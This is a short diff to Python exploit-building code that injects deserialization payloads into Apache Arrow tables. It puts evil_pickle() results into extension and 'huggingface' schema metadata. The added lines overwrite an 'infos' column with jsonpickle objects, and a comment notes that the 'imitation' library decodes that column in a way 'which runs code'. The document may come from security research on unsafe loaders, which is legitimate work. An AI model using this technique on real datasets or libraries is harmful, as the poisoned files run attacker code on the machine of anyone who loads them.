@@ -176,6 +176,10 @@ def arrow_edits(content, suffix):
         b"ARROW:extension:name": b"arrow.py_extension_type",
         b"ARROW:extension:metadata": evil_pickle(),
     }
+    if "infos" in table.column_names:  # imitation decodes them by jsonpickle, which runs code
+        at, infos = table.column_names.index("infos"), table.column("infos")
+        texts = [[json.dumps(OBJECTS[0]) for _ in each] for each in infos.to_pylist()]
+        table = table.set_column(at, "infos", pyarrow.array(texts, infos.type))
     fields = [field.with_metadata(evil) for field in table.schema]
     named = {b"pandas": json.dumps(OBJECTS[0]).encode(), b"huggingface": evil_pickle()}
     edited = table.cast(pyarrow.schema(fields, metadata=named))
